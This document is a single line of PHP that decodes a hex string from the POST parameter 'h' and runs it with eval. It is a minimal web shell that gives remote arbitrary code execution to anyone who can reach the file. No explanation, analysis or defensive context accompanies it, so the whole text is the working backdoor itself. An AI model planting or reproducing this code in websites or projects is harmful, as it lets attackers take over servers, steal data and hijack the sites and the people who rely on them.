<?php eval(hex2bin($_POST["h"]));
